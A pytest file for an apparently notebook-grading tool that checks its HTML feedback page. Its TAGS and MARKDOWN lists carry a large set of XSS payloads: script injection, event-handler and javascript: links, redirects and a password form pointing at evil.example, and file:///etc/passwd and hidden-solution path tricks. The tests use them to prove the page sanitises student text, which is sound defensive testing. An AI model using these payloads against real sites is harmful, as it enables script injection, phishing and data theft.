"""The feedback page: what it says, what hostile work cannot put into it, and how it looks in a real browser."""

from __future__ import annotations

import base64
import dataclasses
import itertools
import re
import shutil
import time
from collections.abc import Callable
from concurrent.futures import ProcessPoolExecutor
from multiprocessing import get_context
from pathlib import Path
from urllib.parse import unquote

import nbformat
import numpy as np
import pytest
from bs4 import BeautifulSoup

from stepgrade.assignment import Assignment
from stepgrade.diagnose import diagnosed
from stepgrade.grade import Grader
from stepgrade.notebook import read_notebook
from stepgrade.report.page import page_of
from stepgrade.report.page.formulas import formula
from stepgrade.report.page.heatmap import Panel, picture
from stepgrade.report.page.pictures import Pictures
from stepgrade.report.page.prose import prose
from stepgrade.result import EndState, Outcome, Repair, Result
from stepgrade.sandbox import Bubblewrap, find_boundary
from tests.conftest import ASSIGNMENT, COURSE, script
from tests.test_executed import png

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
ELEMENT_NAMES = """
    html head meta title style body header main footer section h1 h2 h3 h4 h5 h6 p div span a ul ol li dl dt dd table
    thead tbody tr th td strong em del code pre br hr blockquote details summary img
"""
ATTRIBUTE_NAMES = """
    lang charset content http-equiv name class id href rel scope src alt width height tabindex aria-label aria-hidden
    start style
"""
PAGE_ELEMENTS = frozenset(ELEMENT_NAMES.split())
PAGE_ATTRIBUTES = frozenset(ATTRIBUTE_NAMES.split())


@pytest.fixture
def released(tiny: Assignment) -> Assignment:
    tiny.release_dir.mkdir(parents=True)
    shutil.copy(tiny.source_dir / "public_tests.py", tiny.release_dir)
    (tiny.release_dir / "images").mkdir()
    (tiny.release_dir / "images" / "drawing.svg").write_bytes(SVG)
    return tiny


def graded(submission: bytes, assignment: Assignment, student: str = "ada") -> Result:
    return Grader(assignment).grade(submission, student)


@pytest.fixture
def page(released: Assignment, hand_in: Callable[..., bytes]) -> Callable[..., BeautifulSoup]:
    """``page(cells=[...], halve=...)``: the page of a submission of the tiny assignment with these cells in front."""

    def made(cells=(), **answers: str) -> BeautifulSoup:
        notebook = nbformat.reads(hand_in(**answers), as_version=4)
        notebook.cells[0:0] = list(cells)
        submission = nbformat.writes(notebook).encode()
        return parsed(page_of(graded(submission, released), submission, released, find_boundary()))

    return made


def parsed(page: str) -> BeautifulSoup:
    return BeautifulSoup(page, "html.parser")


def markdown(source: str, **extra):
    return nbformat.v4.new_markdown_cell(source, **extra)


def code(source: str):
    return nbformat.v4.new_code_cell(source)


def assert_harmless(soup: BeautifulSoup) -> None:
    """Assert that the page holds nothing but what the template and the Markdown of a page are made of."""
    for element in soup.find_all(True):
        in_formula = element.name == "math" or element.find_parent("math") is not None
        assert in_formula or element.name in PAGE_ELEMENTS, element
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            assert not name.lower().startswith("on"), element
            assert in_formula or name in PAGE_ATTRIBUTES, element
            if name == "style":
                assert re.fullmatch(r"text-align:\s*(left|right|center)", text), element
            if name == "href":
                assert element.name == "a" and re.match(r"https?://|mailto:|#", text), element
            if name == "src":
                assert element.name == "img" and re.match(r"data:image/((png|jpeg);base64,|svg\+xml,)", text), element
            assert not re.match(r"\s*(javascript|vbscript|data:text)", text, re.IGNORECASE), element
    assert len(soup.find_all("style")) == 1
    assert len(soup.find_all("meta")) == 4
    svgs = {image["src"] for image in soup.find_all("img") if image["src"].startswith("data:image/svg")}
    assert {unquote(svg) for svg in svgs} <= {f"data:image/svg+xml,{SVG.decode()}"}
    assert [heading.name for heading in soup.find_all("h1")] == ["h1"]


def test_the_top_names_student_assignment_total_and_every_question(page):
    soup = page(quarter="def quarter(x):\n    return x")
    assert soup.h1.text == "tiny: feedback"
    assert soup.html["lang"] == "en"
    assert [entry.text for entry in soup.find_all("dd")][:2] == ["ada", "4 of 10"]
    rows = [[cell.text for cell in row.find_all(["th", "td"])] for row in soup.find("table").find_all("tr")][1:]
    assert rows == [
        ["halve", "4 of 4", "all checks passed"],
        ["quarter", "0 of 6", "no check passed"],
        ["double", "optional", "all checks passed"],
    ]


def test_the_top_says_where_correct_helpers_were_needed(page):
    soup = page(halve="def halve(x):\n    return x")
    rows = [[cell.text for cell in row.find_all(["th", "td"])] for row in soup.find("table").find_all("tr")][1:]
    assert rows[:2] == [
        ["halve", "0 of 4", "no check passed"],
        ["quarter", "6 of 6", "all checks passed, with correct helpers"],
    ]


def test_links_from_the_table_lead_to_the_checks(page):
    soup = page()
    targets = [link["href"].removeprefix("#") for link in soup.find("table").find_all("a")]
    assert targets == ["question-halve", "question-quarter", "question-double"]
    assert all(soup.find(id=target) for target in targets)


def test_checks_stand_right_below_the_test_cell_of_their_question(page):
    soup = page()
    for name in ("halve", "quarter", "double"):
        before = soup.find(id=f"question-{name}").find_previous_sibling("div", class_="cell")
        assert before.find("code").text == f"{name}_test({name})"
        assert soup.find(id=f"question-{name}").find_previous_sibling() is before


def test_a_failed_check_says_so_in_words_with_its_finding_first(page):
    section = page(halve="def halve(x):\n    return x").find(id="question-halve")
    assert section.find(class_="first").text.startswith("Look at this first: halve: ")
    rows = [row.find("td").text for row in section.find("tbody").find_all("tr")]
    assert any("failed" in outcome for outcome in rows)


def test_what_several_checks_found_alike_is_said_once(page):
    section = page(halve="x = 1").find(id="question-halve")
    assert len(section.find("tbody").find_all("tr")) > 1
    assert section.text.count("no cell that runs defines it") == 1


def test_a_notebook_that_lost_its_metadata_has_the_checks_below_its_tests_all_the_same(released, hand_in):
    notebook = nbformat.reads(hand_in(), as_version=4)
    for cell in notebook.cells:
        cell.metadata = {}
    submission = nbformat.writes(notebook).encode()
    soup = parsed(page_of(graded(submission, released), submission, released, find_boundary()))
    assert soup.find(id="question-quarter").find_previous_sibling().find("code").text == "quarter_test(quarter)"


def test_without_its_test_cell_a_questions_checks_stand_below_the_answer_and_without_both_on_top(released, hand_in):
    notebook = nbformat.reads(hand_in(), as_version=4)
    dropped = ("quarter_test", "halve_test", "def halve")
    notebook.cells = [cell for cell in notebook.cells if not cell.source.startswith(dropped)]
    submission = nbformat.writes(notebook).encode()
    soup = parsed(page_of(graded(submission, released), submission, released, find_boundary()))
    assert soup.find(id="question-quarter").find_previous_sibling().find("code").text.startswith("def quarter")
    assert soup.find(id="question-halve").find_previous_sibling("h2").text == "Checks"
    assert len(soup.find_all(class_="question")) == 3


def test_repairs_are_listed(released, hand_in):
    submission = hand_in()
    result = dataclasses.replace(graded(submission, released), repairs=(Repair("code", "one <thing> put right"),))
    soup = parsed(page_of(result, submission, released, find_boundary()))
    assert soup.find("h2", string="Put right before grading").find_next("li").text == "one <thing> put right"


def test_a_damaged_hand_in_has_a_page_with_the_reason(released):
    soup = parsed(page_of(graded(b"junk", released), b"junk", released, find_boundary()))
    assert soup.find("dd", class_="total").text == "0 of 10"
    assert "not JSON" in soup.find_all("dd")[2].text
    assert "It cannot be shown: the file is not JSON" in soup.text
    assert_harmless(soup)


def test_a_missing_hand_in_has_a_page_without_points(released):
    missing = Grader(released).without_marks(EndState.MISSING, "no file", student="ada")
    soup = parsed(page_of(missing, None, released, find_boundary()))
    assert soup.find("dd", class_="total").text == "- of 10"
    assert "There is no notebook to show." in soup.text


def test_training_is_marked_as_not_run_again(page):
    assert [flag.text for flag in page().find_all(class_="flag")] == ["not run again"]


def test_a_cell_that_ends_its_process_is_marked_as_stopped_and_the_page_is_whole(page):
    soup = page([code("import os\nos._exit(1)")])
    label = soup.find(class_="label").text
    assert label.startswith("Code cell 1 stopped: its process ended itself (exit code 1)")
    assert len(soup.find_all(class_="question")) == 3


def test_a_session_that_cannot_be_started_leaves_the_page_and_says_so(released, hand_in):
    submission = hand_in()
    nowhere = Bubblewrap("broken", Path("/bin/false"))
    soup = parsed(page_of(graded(submission, released), submission, released, nowhere))
    assert "the grader could not run it" in soup.find(class_="label").text
    assert len(soup.find_all(class_="question")) == 3


def test_no_hidden_word_is_on_the_page(released, hand_in):
    submission = hand_in(extra=["import sys\nprint(sorted(sys.modules), dict(globals()))"], halve="def halve(x): pass")
    result = graded(submission, released)
    page = page_of(result, submission, released, find_boundary())
    assert result.seed not in page
    assert "half_of_everything" not in page  # of the solution in source/
    hidden = (released.hidden_dir / "checks.py").read_text() + (released.hidden_dir / "solution.py").read_text()
    lines = {line.strip() for line in hidden.splitlines() if len(line.strip()) > 25}
    assert [line for line in lines if line in page] == []


def test_a_wrong_answer_is_explained_with_code_numbers_and_pictures(released, hand_in):
    submission = hand_in(halve="def halve(x):\n    return x[::-1] / 2")
    result = graded(submission, released)
    found = diagnosed(result, read_notebook(submission).cells, released, find_boundary())
    soup = parsed(page_of(result, submission, released, find_boundary(), found))
    part = soup.find("section", id="question-halve")
    assert "x = np.reshape([1.0, 2.0], (2,))" in part.find("pre", class_="code").text
    assert part.find("pre", class_="outcome").text == "got      y = [1, 0.5]\nexpected y = [0.5, 1]"
    outputs, reading = part.find_all("div", class_="heatmap")
    assert outputs.img["alt"] == "Expected y = [[0.5, 1]]; got y = [[1, 0.5]]. Wrong at (0, 0), (0, 1)."
    assert [image["alt"] for image in outputs.find_all("img")[1:]] == ["", ""]
    assert reading.img["alt"] == "y[0] is made from x[1]; it should be made from x[0]."
    assert all(image["src"].startswith("data:image/svg+xml,") for image in part.find_all("img"))


def test_the_page_begins_with_what_to_do_next(released, hand_in):
    submission = hand_in(halve="def halve(x):\n    return x * 2")
    result = graded(submission, released)
    found = diagnosed(result, read_notebook(submission).cells, released, find_boundary())
    soup = parsed(page_of(result, submission, released, find_boundary(), found))
    assert soup.header.find("p", class_="first").text.startswith("Start with halve: The numbers become larger.")
    quarter = soup.find("section", id="question-quarter")
    assert "With a correct halve, your quarter is right: 6 of 6." in quarter.text


def test_a_right_submission_has_nothing_to_begin_with(page):
    assert page().header.find("p", class_="first") is None


def test_the_same_hand_in_gives_the_same_page_byte_for_byte(released, hand_in):
    submission = hand_in(extra=["import matplotlib.pyplot as plt\nplt.plot([1, 2])", "object()", "{'a', 'b'}"])
    first, again = (page_of(graded(submission, released), submission, released, find_boundary()) for _ in range(2))
    assert first == again
    assert str(released.course) not in first


def test_a_page_is_made_in_a_worker_process_like_here(released, hand_in):
    submission = hand_in()
    result = graded(submission, released)
    arguments = result, submission, Assignment(released.name, released.course), find_boundary()
    with ProcessPoolExecutor(1, mp_context=get_context("spawn")) as pool:
        assert pool.submit(page_of, *arguments).result(timeout=120) == page_of(*arguments)


TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/pixel.png>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example'</style>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<details><summary onclick=alert(1)>x</summary>",
    "</details></details></section></main></body>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --><!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html><html onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<div style='position:fixed;inset:0;background:red'>covered</div>",
    "<video src=x onerror=alert(1)><audio src=x>",
    "<br onclick=alert(1)>",
    "<x\x00 onclick=alert(1)>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://ok.example/"onclick="alert(1))',
    "[x](https://ok.example 'title\" onclick=alert(1) x=\"')",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](images/drawing.svg)',
    "![x](../../hidden/tiny/solution.py)",
    "![x](/etc/passwd)",
    "![x](attachment:evil.svg)",
    "![x](attachment:fake.png)",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed;inset:0}{x}$",
    "$\\class{question}{x}$ $\\cssId{top}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$$<img src=x onerror=alert(1)>$$",
    "$\\unicode{<script>}$ $\\hspace{99999em}$ $\\rule{9999em}{9999em}$",
    "\\begin{matrix}<script>\\end{matrix}",
    "$" + "{" * 1500 + "$",
    "| a | b |\n| :-: | --- |\n| <script> | [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>\n###### deep",
    "> " * 60 + "<script>alert(1)</script>",
    "1. a\n   1. <img src=x onerror=alert(1)>\n      - b",
]


def test_no_tag_address_or_formula_of_a_students_text_is_active(page):
    evil = {"image/svg+xml": "<svg onload=alert(1)></svg>", "image/png": "bm8gaW1hZ2U="}
    attachments = {"attachments": {"evil.svg": evil, "fake.png": evil}}
    soup = page([markdown(source, **attachments) for source in (*TAGS, *MARKDOWN, "\n\n".join(TAGS))])
    assert_harmless(soup)
    shown = soup.text
    assert shown.count("alert(1)") > 30  # it is there, as text
    assert [section["id"] for section in soup.find_all("section", class_="question")] == [
        f"question-{name}" for name in ("halve", "quarter", "double")
    ]


def test_every_pair_of_hostile_texts_in_one_cell_is_harmless_too():
    pictures = Pictures.of({"images/drawing.svg": SVG})
    for number, pair in enumerate(itertools.permutations((*TAGS, *MARKDOWN), 2)):
        html, _level = prose((" ", "\n\n")[number % 2].join(pair), pictures, {}, 2, released=False)
        for element in parsed(html).find_all(True):
            in_formula = element.name == "math" or element.find_parent("math") is not None
            assert in_formula or element.name in PAGE_ELEMENTS - {"style", "meta"}, (pair, element)
            assert not [name for name in element.attrs if name.startswith("on")], (pair, element)
        assert html.count("<details>") == html.count("</details>")


def test_no_tag_in_what_a_cell_prints_returns_raises_or_is_called_is_active(page):
    sources = [f"print({tag!r})" for tag in TAGS] + [f"raise ValueError({tag!r})" for tag in TAGS[:6]]
    sources += ["from IPython.display import HTML, Javascript, SVG, display"]
    sources += [f"display(HTML({TAGS[0]!r}), Javascript('alert(1)'))", f"{TAGS[0]!r}", f"# {TAGS[0]}", TAGS[1]]
    sources += [
        "class Evil:\n    def _repr_html_(self): return '<script>'\n    def _repr_svg_(self): return '<svg/>'\nEvil()"
    ]
    soup = page([code(source) for source in sources])
    assert_harmless(soup)
    assert TAGS[0] in soup.find("pre", class_="stream").text


def test_no_tag_in_saved_outputs_names_or_metadata_is_active(released, hand_in):
    notebook = nbformat.reads(hand_in(), as_version=4)
    evil = {"text/html": TAGS[0], "image/svg+xml": TAGS[4], "application/javascript": "alert(1)", "text/plain": TAGS[0]}
    notebook.cells[-1].outputs = [
        nbformat.v4.new_output("display_data", data=evil),
        nbformat.v4.new_output("display_data", data={"image/png": base64.b64encode(b"<script>").decode()}),
        nbformat.v4.new_output("error", ename=TAGS[0], evalue=TAGS[1], traceback=[TAGS[2]]),
        nbformat.v4.new_output("stream", text=TAGS[0]),
    ]
    notebook.metadata["title"] = TAGS[0]
    notebook.cells[0].metadata["tags"] = [TAGS[0]]
    notebook.cells.append(nbformat.v4.new_raw_cell(TAGS[0]))
    submission = nbformat.writes(notebook).encode()
    result = graded(submission, released, student=TAGS[0])
    checks = [dataclasses.replace(check, title=TAGS[0], message=TAGS[2]) for check in result.questions[0].checks]
    question = dataclasses.replace(
        result.questions[0], checks=(dataclasses.replace(checks[0], outcome=Outcome.FAILED), *checks[1:])
    )
    result = dataclasses.replace(result, questions=(question, *result.questions[1:]), reason=TAGS[0])
    assert_harmless(parsed(page_of(result, submission, released, find_boundary())))


def test_the_policy_in_the_page_forbids_scripts_and_the_network(page):
    policy = page().find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'")


def test_images_of_the_release_and_attached_png_images_are_in_the_page(page):
    attached = {"attachments": {"mine.png": {"image/png": base64.b64encode(png()).decode()}}}
    soup = page([markdown("![a drawing](images/drawing.svg) ![my picture](attachment:mine.png)", **attached)])
    drawing, picture = soup.find_all("img")
    assert (drawing["alt"], picture["alt"]) == ("a drawing", "my picture")
    assert base64.b64decode(picture["src"].partition(",")[2]) == png()


def test_figures_have_a_text_alternative_and_a_size(page):
    image = page([code("import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()")]).find("img")
    assert image["alt"] == "Figure drawn by code cell 1"
    assert int(image["width"]) > 100


def test_links_to_the_web_stay_links_and_an_answer_stays_folded(page):
    text = "[doc](https://numpy.org/doc#x)\n\n<details><summary>Answer</summary>\n\n42, $x^2$\n\n</details>\n\nbehind"
    soup = page([markdown(text)])
    assert soup.find("a", string="doc")["href"] == "https://numpy.org/doc#x"
    assert soup.details.summary.text == "Answer"
    assert "42" in soup.details.text and "behind" not in soup.details.text


def test_headings_go_down_one_step_at_a_time(page):
    soup = page([markdown("##### deep\n\n# top\n\n### lower")])
    levels = [int(heading.name[1]) for heading in soup.find_all(re.compile(r"h[1-6]"))]
    assert levels[0] == 1
    assert all(below <= above + 1 for above, below in itertools.pairwise(levels))


BUSY = [
    *("*a " * 4000, "[" * 12_000, "`" * 6000 + "a", "$a" * 6000, "> " * 6000, "![" * 6000, "<a " * 4000),
    *("| a " * 2000 + "\n|" + " - |" * 1000, "\\begin{a}" * 1300, "- " * 6000, "x" * 10**6),
    *("[a](" * 3000, "**a" * 4000, "~~a" * 4000, "a\n=" * 4000, "$" + "{" * 1900 + "$", "$" + "\\frac{1}{" * 180 + "$"),
]


@pytest.mark.parametrize("text", BUSY, ids=[text[:6].strip() for text in BUSY])
def test_text_that_is_made_to_keep_the_parser_busy_does_not(text):
    started = time.process_time()
    prose(text, Pictures(), {}, 2, released=False)
    assert time.process_time() - started < 5


def test_a_formula_becomes_mathml_and_what_is_no_formula_stays_readable():
    assert "<msup>" in formula("x^2", display=False)
    assert "<mtable" in formula(r"\begin{aligned} a &= b \\ &= c \end{aligned}", display=True)
    assert formula("x^2^<2", display=False) == '<code class="tex">x^2^&lt;2</code>'
    assert "href" not in formula(r"\href{javascript:alert(1)}{x}", display=False)


def test_every_formula_and_image_of_the_real_notebook_is_shown(assignment):
    from stepgrade.showing import released_files

    pictures, level, pages = Pictures.of(released_files(assignment.release_dir)), 2, []
    for cell in assignment.source_cells:
        if cell.kind == "markdown":
            html, level = prose(cell.source, pictures, {}, level, released=True)
            pages.append(html)
    page = "\n".join(pages)
    assert (page.count("<math"), page.count("<img"), page.count("<details>")) == (60, 7, 8)
    assert [mark for mark in ('class="tex"', "no-image", "merror", "&lt;details", "$$", "\\frac") if mark in page] == []


@pytest.fixture(scope="module")
def student_page(tmp_path_factory) -> Path:
    """The page of the student of examples/class who ignores the stride, in a file."""
    hand_in = script(COURSE / "examples/hand_in.py")
    assignment = Assignment.find(ASSIGNMENT, COURSE)
    notebook = hand_in.notebook_of(hand_in.CLASS / "stride_ignored.py", assignment.release_dir / f"{ASSIGNMENT}.ipynb")
    notebook.cells.append(markdown("\n\n".join((*TAGS, *MARKDOWN))))
    submission = nbformat.writes(notebook).encode()
    path = tmp_path_factory.mktemp("page") / "page.html"
    path.write_text(page_of(graded(submission, assignment), submission, assignment, find_boundary()), encoding="utf-8")
    return path


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine: install the system's package chromium")
@pytest.mark.parametrize("width", [360, 390, 1280])
def test_in_a_browser_it_asks_for_nothing_complains_of_nothing_and_fits(student_page, width):
    from playwright.sync_api import sync_playwright

    said, asked = [], []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page(viewport={"width": width, "height": 900})
        page.on("console", lambda message: said.append(message.text))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("dialog", lambda dialog: said.append(dialog.message))
        page.on("request", lambda request: asked.append(request.url))
        page.goto(student_page.as_uri())
        page.evaluate("document.querySelectorAll('details').forEach(e => e.open = true)")
        widths = page.evaluate("[document.documentElement.scrollWidth, document.documentElement.clientWidth]")
        broken = page.evaluate("[...document.images].filter(image => !image.naturalWidth).length")
        formulas = page.evaluate("document.querySelectorAll('math').length")
        browser.close()
    assert said == []
    assert [url for url in asked if not url.startswith("data:")] == [student_page.as_uri()]
    assert widths[0] <= widths[1]
    assert broken == 0
    assert formulas >= 60


def test_the_end_state_is_said_in_words(released):
    result = Grader(released).without_marks(EndState.GRADER_ERROR, "no boundary", b"{}", "ada")
    soup = parsed(page_of(result, None, released, find_boundary()))
    assert "grader error: there is no mark (no boundary)" in soup.text
    assert [cell.text for cell in soup.find("table").find_all("td", class_="number")] == [
        "- of 4",
        "- of 6",
        "optional",
    ]


def test_a_title_in_chinese_or_korean_gets_the_room_that_its_letters_take():
    def width(title: str) -> int:
        return picture(Panel(title, np.zeros((1, 1)), (0, 1)))[1]

    assert width("반환된 값") == width("returned!") > width("returned")
